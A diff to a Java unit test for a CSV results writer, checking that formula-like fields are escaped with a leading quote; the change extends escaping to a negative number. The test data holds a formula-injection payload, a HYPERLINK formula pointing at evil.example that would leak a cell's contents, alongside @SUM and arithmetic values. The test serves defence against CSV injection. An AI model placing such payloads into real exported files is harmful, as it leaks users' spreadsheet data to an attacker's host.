@@ -58,7 +58,7 @@ class ResultsCsvWriterTests {
 		assertThat(results.split(LF)).hasSize(3);
 		assertThat(results.split(LF)[1]).isEqualTo("2,imported,101,,,attacker@example.co.jp,"
 				+ "\"'=HYPERLINK(\"\"http://evil.example/\"\"&A1)\",ノートPC,1,89800,JPY,'+81-3-1234-5678");
-		assertThat(results.split(LF)[2]).endsWith(",x@example.co.jp,'@SUM(1+1),'-2+3,0,3500,JPY,-5");
+		assertThat(results.split(LF)[2]).endsWith(",x@example.co.jp,'@SUM(1+1),'-2+3,0,3500,JPY,'-5");
 	}
 
 	@Test
